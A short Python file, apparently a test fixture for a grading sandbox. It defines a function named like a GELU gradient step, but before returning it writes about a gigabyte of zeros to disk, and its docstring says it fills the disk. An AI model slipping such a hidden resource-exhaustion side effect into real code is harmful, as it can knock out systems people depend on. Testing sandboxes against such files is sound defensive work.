"""A file that fills the disk."""


def gelu_backward(dout, cache):
    with open("huge", "wb") as file:
        for _ in range(64):
            file.write(bytes(2**24))
    return right_backward(dout, cache)
